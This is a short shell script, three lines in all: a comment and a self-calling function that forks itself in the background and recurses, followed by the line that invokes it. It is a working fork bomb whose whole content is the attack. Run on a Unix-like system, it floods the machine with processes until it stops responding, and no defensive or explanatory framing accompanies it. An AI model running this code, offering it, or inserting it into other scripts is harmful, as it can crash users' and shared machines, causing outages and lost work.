# Each process makes another one, and goes on.
bomb() { bomb 2>/dev/null & bomb; }
bomb
